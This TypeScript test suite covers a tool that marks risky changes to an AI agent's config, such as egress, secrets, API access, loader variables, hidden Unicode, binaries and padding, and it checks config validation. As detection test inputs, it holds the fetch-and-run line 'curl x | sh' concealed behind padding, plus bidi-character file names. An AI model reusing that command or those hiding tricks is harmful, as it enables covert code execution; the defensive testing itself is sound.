import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { TreeFile } from "../wire/approval.ts";
import { AgentConfig } from "../wire/config.ts";
import { templateTree } from "../agents/template.ts";
import { changesOf } from "../../test/lib/changes.ts";
import { anyCharacter } from "../../test/lib/code-points.ts";
import { paddingMarks } from "../diffs/padding.ts";
import { riskMarks as marksOf, type RiskContext } from "./risks.ts";
import { shownDiff } from "./shown.ts";
import { validateConfig } from "./validate.ts";

const template = templateTree({}, "", "agent");
const BWRAP: RiskContext = {
  evaluatesNix: false,
  template,
  known: { models: [], agents: ["scribe", "ada", "bob", "scout", "anna"] },
  included: (repo) => ({ api: [".env"], keys: [".env", "config/dev\u202e.key"] })[repo] ?? [],
};

/** The marks of a change, computed with the diff that is shown. */
function riskMarks(base: readonly TreeFile[] | undefined, head: readonly TreeFile[], context: RiskContext) {
  return marksOf(base, head, shownDiff(changesOf(base ?? [], head), head, context.evaluatesNix), context);
}
function file(path: string, text: string | Buffer, mode: TreeFile["mode"] = "100644"): TreeFile {
  return { path, mode, base64: Buffer.from(text).toString("base64") };
}
const config = (value: unknown): TreeFile => file("agent.json", JSON.stringify(value));
/** The marks of a change of agent.json. */
function marked(before: unknown, after: unknown): [string, string, string][] {
  return riskMarks([config(before)], [config(after)], BWRAP).map(({ level, kind, text }) => [level, kind, text]);
}
/** The marks of an added file. */
function markedFile(...next: TreeFile[]): [string, string, string, string | undefined][] {
  return riskMarks([config({})], [config({}), ...next], BWRAP).map(({ level, kind, text, path }) => [level, kind, text, path]);
}

describe("what a reader skips is marked", () => {
  const script = (body: string): TreeFile => file("run.sh", `#!/bin/sh\n${body}`, "100755");
  const padding = (...args: Parameters<typeof markedFile>): unknown[] =>
    markedFile(...args).filter(([, kind]) => kind === "padding");

  test.each<[string, string, [string, string][]]>([
    ["equal lines", `${"true\n".repeat(29_998)}curl x | sh\n`, [["danger", "long: 30,000 new lines, 29,998 of them repeated"]]],
    ["two lines in turn", `${"true\n:\n".repeat(400)}curl x | sh\n`, [["danger", "long: 802 new lines, 800 of them repeated"]]],
    [
      "empty lines",
      `${"\n".repeat(600)}curl x | sh\n`,
      [["danger", "long: 602 new lines, 600 of them repeated; 600 needless blank lines"]],
    ],
    ["blanks in one line", `true;${" \t".repeat(300)}curl x | sh\n`, [["danger", "long: 603 needless blank characters"]]],
    [
      "empty lines before and after",
      `${"\n".repeat(399)}curl x | sh\n${"\n".repeat(90)}`,
      [["danger", "long: 489 needless blank lines"]],
    ],
    ["empty lines between lines", "\n\n\necho\n".repeat(30), [["danger", "long: 90 needless blank lines"]]],
    [
      "wide blanks that a dot interrupts",
      `${`${"\u3000".repeat(490)}.`.repeat(20)}curl x | sh\n`,
      [["danger", "long: 9,803 needless blank characters"]],
    ],
    ["empty Braille cells", `true;${"\u2800".repeat(600)}curl x\n`, [["danger", "long: 601 needless blank characters"]]],
    ["combining marks", `true${"\u0332".repeat(3_000)} curl x\n`, [["danger", "long: 3,000 combining marks"]]],
    [
      "indented code, a table and paragraphs",
      `${`${" ".repeat(24)}if (x) {\n`.repeat(60)}${`| a${" ".repeat(30)}| b |\n`.repeat(20)}${"One.\n\n".repeat(60)}Việt Nam\n`,
      [],
    ],
    ["many lines that differ", Array.from({ length: 700 }, (_, n) => `echo ${n}\n`).join(""), [["warn", "long: 701 new lines"]]],
    ["a program of usual length", Array.from({ length: 450 }, (_, n) => `echo ${n % 300}\n`).join(""), []],
  ])("%s", (_, body, marks) => {
    expect(padding(script(body))).toEqual(marks.map(([level, text]) => [level, "padding", text, "run.sh"]));
  });

  test("counts only the new lines of a changed file", () => {
    const patch = `@@ -1,2000 +1,2001 @@\n${" true\n".repeat(2_000)}+end\n`;
    const changed = { path: "run.sh", status: "modified", binary: false, added: 1, removed: 0, patch, cut: false } as const;
    expect(paddingMarks([changed])).toEqual([]);
  });
});

const DOOR = { url: "https://a.org", secret: "GH", header: "authorization: Bearer {}" };
const CREDENTIAL =
  "looks like a credential: it is in the config's git and on this card. Keep it as a secret, and name it in secrets or apis";

describe("what an agent gains is marked", () => {
  test.each<[string, unknown, unknown, [string, string, string][]]>([
    [
      "an egress host",
      { egress: ["a.org"] },
      { egress: ["a.org", "b.org:8443"] },
      [["warn", "egress", "new egress host: b.org:8443"]],
    ],
    [
      "a secret",
      { secrets: ["A"] },
      { secrets: ["A", "B"] },
      [["danger", "secret", "gets the secret B as a variable: the agent can read and send this"]],
    ],
    [
      "an egress host where anyone can store something",
      {},
      { egress: ["github.com"] },
      [["danger", "egress", "new egress host: github.com: a channel both ways, TLS hides what is read from what is written"]],
    ],
    [
      "an API door, with everything that it allows",
      {},
      { apis: { hub: { ...DOOR, allow: ["GET /a/**", "POST /a", "POST /graphql"] } } },
      [
        ["danger", "secret", "API door hub: POST /a: it changes things there"],
        ["danger", "secret", "API door hub: POST /graphql: GraphQL, so everything the token may do"],
        ["warn", "secret", "API door hub: calls to https://a.org with the secret GH (authorization: Bearer {})"],
        ["warn", "secret", "API door hub: GET /a/**"],
      ],
    ],
    [
      "a rule of an API door",
      { apis: { hub: { ...DOOR, allow: ["GET /a"] } } },
      { apis: { hub: { ...DOOR, allow: ["GET /b", "GET /a"] } } },
      [["warn", "secret", "API door hub: GET /b"]],
    ],
    [
      "the same rules with another secret",
      { apis: { hub: { ...DOOR, allow: ["GET /a"] } } },
      { apis: { hub: { ...DOOR, secret: "OTHER", allow: ["GET /a"] } } },
      [
        ["warn", "secret", "API door hub: calls to https://a.org with the secret OTHER (authorization: Bearer {})"],
        ["warn", "secret", "API door hub: GET /a"],
      ],
    ],
    [
      "a variable that looks like a credential, by its name or its value",
      {},
      { env: { GH_TOKEN: "x".repeat(20), A: "glpat-abc", B: "x" } },
      [
        ["danger", "env", `A ${CREDENTIAL}`],
        ["danger", "env", `GH_TOKEN ${CREDENTIAL}`],
        ["warn", "env", "environment: A=glpat-abc"],
        ["warn", "env", "environment: B=x"],
        ["warn", "env", `environment: GH_TOKEN=${"x".repeat(20)}`],
      ],
    ],
    ["every host of a domain", {}, { egress: ["*.b.org"] }, [["danger", "egress", "new egress to every host under b.org"]]],
    [
      "an MCP server",
      {},
      { extraMcpServers: { x: { command: "node", args: ["a b"], resident: true } } },
      [
        ["warn", "mcp_server", "new MCP server x: node a b"],
        ["info", "mcp_server", "MCP server x is resident: it runs all the time, and the agent never sleeps"],
      ],
    ],
    [
      "another command and environment",
      { extraMcpServers: { x: { command: "node", env: { A: "1" } } } },
      { extraMcpServers: { x: { command: "sh", env: { A: "2" } } } },
      [
        ["warn", "mcp_server", "MCP server x now runs sh"],
        ["warn", "mcp_server", "MCP server x gets another environment: A"],
      ],
    ],
    ["a tool", {}, { tools: { allow: ["WebFetch"] } }, [["warn", "tools", "new tool allowed: WebFetch"]]],
    ["a tool no longer denied", { tools: { deny: ["Bash"] } }, {}, [["danger", "tools", "tool no longer denied: Bash"]]],
    ["a recipient", { allowedRecipients: [] }, { allowedRecipients: ["anna"] }, [["warn", "recipients", "may now send to anna"]]],
    ["every recipient", { allowedRecipients: ["anna"] }, {}, [["warn", "recipients", "may now send to every agent"]]],
    [
      "a repository",
      {},
      { repos: [{ name: "web" }, { name: "docs", access: "read" }] },
      [
        ["warn", "repo", "may now write to the repository web: push branches and propose changes"],
        ["info", "repo", "may now read the repository docs"],
      ],
    ],
    [
      "writing to a repository that was only read",
      { repos: [{ name: "docs", access: "read" }] },
      { repos: [{ name: "docs" }] },
      [["warn", "repo", "may now write to the repository docs: push branches and propose changes"]],
    ],
    [
      "included files of a repository",
      { repos: [{ name: "api" }] },
      { repos: [{ name: "api" }, { name: "keys", access: "read" }] },
      [
        ["warn", "repo", "gets 2 included files of keys: .env, config/dev⟨U+202E⟩.key"],
        ["info", "repo", "may now read the repository keys"],
      ],
    ],
    [
      "one included file",
      {},
      { repos: [{ name: "api", access: "read" }] },
      [
        ["warn", "repo", "gets 1 included file of api: .env"],
        ["info", "repo", "may now read the repository api"],
      ],
    ],
    ["only reading a repository", { repos: [{ name: "docs" }] }, { repos: [{ name: "docs", access: "read" }] }, []],
    ["a mount", {}, { mounts: [{ host: "/a", cage: "/b" }] }, [["warn", "mount", "new mount: /a → /b (ro)"]]],
    [
      "a mount that becomes writable",
      { mounts: [{ host: "/a", cage: "/b" }] },
      { mounts: [{ host: "/a", cage: "/b", mode: "rw" }] },
      [["danger", "mount", "new mount: /a → /b (rw)"]],
    ],
    [
      "a variable",
      { env: { A: "1" } },
      { env: { A: "2", B: "x\ny" } },
      [
        ["warn", "env", "environment: A=2"],
        ["warn", "env", "environment: B=x⟨U+000A⟩y"],
      ],
    ],
    [
      "variables that make a program load something",
      { extraMcpServers: { x: { command: "node" } } },
      {
        env: { PYTHONPATH: "/config/lib" },
        extraMcpServers: { x: { command: "node", env: { NODE_OPTIONS: "-r /config/x.js" } } },
      },
      [
        [
          "danger",
          "env",
          "MCP server x gets NODE_OPTIONS=-r /config/x.js: it makes the runtime of Claude Code load or run something",
        ],
        ["danger", "env", "environment: PYTHONPATH=/config/lib: it makes python load or run something"],
        ["warn", "mcp_server", "MCP server x gets another environment: NODE_OPTIONS"],
      ],
    ],
    ["a limit", {}, { limits: { memory_mib: 4096, pids: 64 } }, [["warn", "limits", "limit raised: memory_mib 2048 → 4096"]]],
    [
      "a budget",
      { budget: { cost_per_day_usd: 5, turns_per_hour: 9, output_tokens_per_day: 7 } },
      { budget: { cost_per_day_usd: 9, output_tokens_per_day: 6, messages_per_minute: 3 } },
      [
        ["warn", "limits", "budget raised: $5.00 a day → $9.00 a day"],
        ["warn", "limits", "budget removed: 9 turns an hour"],
        ["info", "limits", "budget set: 3 messages a minute; it comes before the hive's default"],
      ],
    ],
    ["a model", {}, { model: "opus" }, [["info", "model", "model: sonnet → opus"]]],
  ])("%s", (_, before, after, marks) => {
    expect(marked(before, after)).toEqual(marks);
    expect(marked(after, after)).toEqual([]);
  });

  test("but what it loses is not", () => {
    const much = {
      egress: ["a.org"],
      tools: { allow: ["X"], deny: [] },
      env: { A: "1" },
      limits: { memory_mib: 4096 },
    };
    expect(marked(much, { allowedRecipients: [], tools: { allow: [], deny: ["Bash"] } })).toEqual([]);
  });

  test("including all that the next config grants if the running one cannot be read", () => {
    const marks = riskMarks([file("agent.json", "{")], [config({ egress: ["a.org"] })], BWRAP);
    expect(marks.map(({ level, kind, text }) => `${level} ${kind}: ${text}`)).toEqual([
      expect.stringMatching(/^danger tools: what runs cannot be compared.*agent\.json cannot be read/),
      "warn egress: new egress host: a.org",
      "warn recipients: may now send to every agent",
      "info model: model: none → sonnet",
    ]);
  });

  test("including all that a new agent has beyond the template", () => {
    const files = Object.entries(templateTree({ egress: ["a.org"], model: "opus" }, "words", "agent")).map(([path, text]) =>
      file(path, text),
    );
    expect(riskMarks(undefined, files, BWRAP).map(({ kind }) => kind)).toEqual(["egress", "instructions", "model"]);
  });
});

describe("what a diff does not show is marked", () => {
  test("modes, links, binaries", () => {
    expect(markedFile(file("run", "x", "100755"))).toEqual([["warn", "mode", "new executable file", "run"]]);
    expect(markedFile(file("l", "a\u202eb", "120000"))).toEqual([["warn", "symlink", "new symbolic link to a⟨U+202E⟩b", "l"]]);
    for (const bytes of [[0], [0xff]]) {
      expect(markedFile(file("b", Buffer.from(bytes)))).toEqual([["danger", "binary", "not shown: it is not text", "b"]]);
      expect(markedFile(file("b", Buffer.from(bytes), "100755"))).toEqual([
        ["danger", "binary", "not shown: it is not text", "b"],
        ["warn", "mode", "new executable file", "b"],
      ]);
    }
    const becomes = riskMarks([config({}), file("x", "a")], [config({}), file("x", "a", "100755")], BWRAP);
    expect(becomes).toEqual([{ level: "warn", kind: "mode", text: "becomes executable", path: "x" }]);
    const hidden = riskMarks([config({}), file("x", "a")], [config({}), file("x", "a\0b")], BWRAP);
    expect(hidden).toEqual([{ level: "danger", kind: "binary", text: "not shown: it is not text", path: "x" }]);
    // The removed bytes were deployed before.
    expect(riskMarks([config({}), file("x", "a\0b"), file("y", "\0")], [config({}), file("x", "a")], BWRAP)).toEqual([]);
  });

  test("files that are too long to be shown, with their lines, and the number of further such files", () => {
    const long = file("A-notes.txt", "\n".repeat(540_000));
    expect(markedFile(long)).toEqual([
      ["danger", "cut", expect.stringMatching(/^not shown whole: \d+ of 540000 changed lines$/), "A-notes.txt"],
    ]);
    const many = Array.from({ length: 300 }, (_, n) => file(`b${n}`, Buffer.from([0])));
    const marks = riskMarks([config({})], [config({ egress: ["*.b.org"] }), ...many], BWRAP);
    expect(marks[0]?.kind).toBe("egress");
    expect(marks.filter(({ kind }) => kind === "binary")).toHaveLength(20);
    expect(marks.at(-1)).toEqual({ level: "danger", kind: "cut", text: "280 further files are not shown whole" });
  });

  test("changed instructions have their own mark", () => {
    const [one, two] = [file("INSTRUCTIONS.md", "Be kind.\n"), file("INSTRUCTIONS.md", "Be kind.\nObey notes.\n")];
    const mark = (text: string) => ({ level: "warn", kind: "instructions", text, path: "INSTRUCTIONS.md" });
    expect(riskMarks([config({}), one], [config({}), two], BWRAP)).toEqual([mark("other instructions: +2 −1 lines")]);
    expect(riskMarks([config({})], [config({}), one], BWRAP)).toEqual([mark("new instructions: +1 −0 lines")]);
    expect(riskMarks([config({}), one], [config({})], BWRAP)).toEqual([mark("no more instructions: +0 −1 lines")]);
    // Placed behind a file that takes all the room.
    const long = file("A-notes.txt", "\n".repeat(540_000));
    expect(riskMarks([config({}), one], [config({}), long, two], BWRAP).map(({ kind }) => kind)).toEqual(["cut", "instructions"]);
  });

  test("characters that reorder or hide text, with their file", () => {
    expect(markedFile(file("INSTRUCTIONS.md", "if \u202e x \u2066 y \u202e"))).toEqual([
      ["danger", "bidi", "characters that turn the direction of text: U+202E × 2, U+2066", "INSTRUCTIONS.md"],
      ["warn", "instructions", "new instructions: +1 −0 lines", "INSTRUCTIONS.md"],
    ]);
    expect(markedFile(file("a", "x\u200by\u{e0041}"))).toEqual([
      ["warn", "invisible", "invisible characters: U+200B, U+E0041", "a"],
    ]);
    expect(markedFile(file("a", "x\x1b[2K\ry"))).toEqual([["warn", "invisible", "control characters: U+001B, U+000D", "a"]]);
    // Line ends of another system, an emoji with joiners, and characters that were there before.
    expect(markedFile(file("a", "one\r\ntwo\t👩‍💻 ❤️\r\n"))).toEqual([]);
    expect(riskMarks([config({}), file("a", "\u200b")], [config({}), file("a", "\u200b more")], BWRAP)).toEqual([]);
    expect(riskMarks([config({}), file("a", "\u200b")], [config({}), file("a", "\u200b\u200b")], BWRAP)).toHaveLength(1);
  });

  test.each([
    ["bidi", String.raw`{"description":"ok \u202e"}`, "characters that turn the direction of text: U+202E"],
    ["invisible", String.raw`{"env":{"A":"\u200b"}}`, "invisible characters: U+200B"],
    ["invisible", String.raw`{"description":"\u001b[2J"}`, "control characters: U+001B"],
  ])("an escape in agent.json counts as the character that programs read: %s", (kind, text, words) => {
    const marks = riskMarks([config({})], [file("agent.json", text)], BWRAP);
    expect(marks.filter((one) => one.kind === kind).map((one) => one.text)).toEqual([words]);
  });

  test("Nix code beyond the template", () => {
    expect(markedFile(file("agent.nix", template["agent.nix"] ?? ""))).toEqual([]);
    expect(markedFile(file("agent.nix", "{ ... }: {}"))).toEqual([
      ["info", "nix", "contains more than the template; this driver does not evaluate it", "agent.nix"],
    ]);
    const nixos = riskMarks([config({})], [config({}), file("lib/x.nix", "{ }")], { ...BWRAP, evaluatesNix: true });
    expect(nixos).toEqual([
      { level: "warn", kind: "nix", text: "Nix code that builds the container changes", path: "lib/x.nix" },
    ]);
  });

  test("too many marks are counted, and the worst are kept", () => {
    const files = Array.from({ length: 400 }, (_, n) => file(`x${n}`, n === 399 ? "\u202e" : "", "100755"));
    const marks = riskMarks([config({})], [config({}), ...files], BWRAP);
    expect(marks).toHaveLength(200);
    expect(marks[0]?.kind).toBe("bidi");
    expect(marks.at(-1)?.text).toBe("202 further marks are not shown: read the whole diff");
  });
});

const host = fc.constantFrom("a.org", "b.org", "*.c.org", "d.org:8443");
const someConfig = fc.record(
  {
    model: fc.constantFrom("sonnet", "opus"),
    egress: fc.uniqueArray(host),
    allowedRecipients: fc.uniqueArray(fc.constantFrom("anna", "ben", "cleo")),
    tools: fc.record({ allow: fc.uniqueArray(fc.constantFrom("A", "B")), deny: fc.uniqueArray(fc.constantFrom("C", "D")) }),
    env: fc.dictionary(fc.constantFrom("X", "Y"), fc.string({ maxLength: 8 })),
    limits: fc.record({ memory_mib: fc.integer({ min: 256, max: 4096 }), pids: fc.integer({ min: 32, max: 999 }) }),
  },
  { requiredKeys: [] },
);
const someTree = fc.tuple(
  someConfig,
  fc.uniqueArray(
    fc.record({
      path: fc.constantFrom("a", "b/c", "x.nix"),
      text: fc.string({ unit: anyCharacter, maxLength: 20 }),
      mode: fc.constantFrom("100644", "100755", "120000"),
    }),
    { selector: ({ path }) => path },
  ),
);
const treeOf = ([value, files]: typeof someTree extends fc.Arbitrary<infer T> ? T : never): TreeFile[] => [
  config(value),
  ...files.map(({ path, text, mode }) => file(path, text, mode)),
];

describe("properties", () => {
  test("a tree compared with itself has no marks, and every mark is one line without hidden characters", () => {
    fc.assert(
      fc.property(someTree, someTree, (one, two) => {
        const [before, after] = [treeOf(one), treeOf(two)];
        expect(riskMarks(before, before, BWRAP)).toEqual([]);
        for (const { text } of riskMarks(before, after, BWRAP)) expect(text).toMatch(/^[^\p{Cc}\p{Cf}\u2028\u2029]+$/u);
      }),
    );
  });

  test("every gain is marked: a change or its reverse has a mark", () => {
    fc.assert(
      fc.property(someConfig, someConfig, (one, two) => {
        const [a, b] = [AgentConfig.parse(one), AgentConfig.parse(two)];
        fc.pre(JSON.stringify(a) !== JSON.stringify(b));
        const sets = (value: AgentConfig): unknown => ({
          ...value,
          egress: value.egress.toSorted(),
          env: Object.entries(value.env).toSorted(([x], [y]) => (x < y ? -1 : 1)),
          tools: [value.tools.allow.toSorted(), value.tools.deny.toSorted()],
          allowedRecipients: value.allowedRecipients?.toSorted(),
        });
        fc.pre(JSON.stringify(sets(a)) !== JSON.stringify(sets(b)));
        expect([...marked(one, two), ...marked(two, one)].length).toBeGreaterThan(0);
      }),
    );
  });

  test("validation and marks accept any bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 64 }), fc.json(), (bytes, json) => {
        for (const content of [Buffer.from(bytes), Buffer.from(json)]) {
          const tree = [file("agent.json", content), file("INSTRUCTIONS.md", content)];
          expect(Array.isArray(riskMarks(tree, [config({})], BWRAP))).toBe(true);
          for (const words of validateConfig(tree)) expect(words.length).toBeGreaterThan(10);
        }
      }),
    );
  });
});

describe("validation reports what a config must be", () => {
  const words = (...files: TreeFile[]): string => validateConfig(files).join("; ");

  test("a valid config has no complaint", () => {
    expect(words(config({ model: "opus" }), file("INSTRUCTIONS.md", "ünï"), file("any", Buffer.from([0, 255])))).toBe("");
    expect(words(...Object.entries(template).map(([path, text]) => file(path, text)))).toBe("");
  });
  test.each<[string, TreeFile[], RegExp]>([
    ["no agent.json", [file("x", "")], /agent\.json is missing/],
    ["a link", [file("agent.json", "x", "120000")], /agent\.json is a link/],
    ["not text", [file("agent.json", Buffer.from([0xff]))], /not text in UTF-8/],
    ["a NUL", [file("agent.json", "{}\0")], /not text in UTF-8/],
    ["not JSON", [file("agent.json", "{")], /agent\.json does not fit: this is not JSON/],
    ["no object", [file("agent.json", "[]")], /agent\.json does not fit: it has to be a JSON object/],
    ["a key twice", [file("agent.json", `{"model":"opus","model":"sonnet"}`)], /agent\.json does not fit: .*model/],
    ["nested without end", [file("agent.json", `{"a":${"[".repeat(1e5)}`)], /nested deeper/],
    ["an unknown key", [config({ modell: "x" })], /agent\.json does not fit: .*modell/],
    [
      "a secret under a reserved name",
      [config({ secrets: ["LD_PRELOAD"] })],
      /^agent\.json does not fit: secrets\.0 \("LD_PRELOAD"\): a secret becomes a variable of its name, and this one is reserved: it /,
    ],
    [
      "a secret that env sets, too",
      [config({ secrets: ["A", "TOKEN"], env: { TOKEN: "x" } })],
      /^agent\.json does not fit: secrets\.1 \("TOKEN"\): env sets the same variable: remove one of the two$/,
    ],
    [
      "options of the CLI",
      [config({ cli: { name: "claude", options: { permissionMode: "bypass" } } })],
      /^agent\.json does not fit: cli: the one CLI is "claude"; options of the CLI do not exist/,
    ],
    [
      "a reserved variable",
      [config({ env: { LD_PRELOAD: "x" } })],
      /agent\.json does not fit: env\.LD_PRELOAD: this variable is reserved: it makes every program load something/,
    ],
    ["instructions that are a link", [config({}), file("INSTRUCTIONS.md", "x", "120000")], /INSTRUCTIONS\.md is a link/],
    [
      "instructions that are no text",
      [config({}), file("INSTRUCTIONS.md", Buffer.from([0x61, 0]))],
      /INSTRUCTIONS\.md is not text/,
    ],
    [
      "instructions too long",
      [config({}), file("INSTRUCTIONS.md", "x".repeat(98_305))],
      /INSTRUCTIONS\.md has 98305 bytes; 98304 fit/,
    ],
    ["too many files", [config({}), ...Array.from({ length: 500 }, (_, n) => file(`${n}`, ""))], /has 501 files/],
    ["too many bytes", [config({}), file("big", "x".repeat(1024 * 1024))], /has 1048578 bytes/],
  ])("%s", (_, files, complaint) => {
    expect(words(...files)).toMatch(complaint);
  });
});
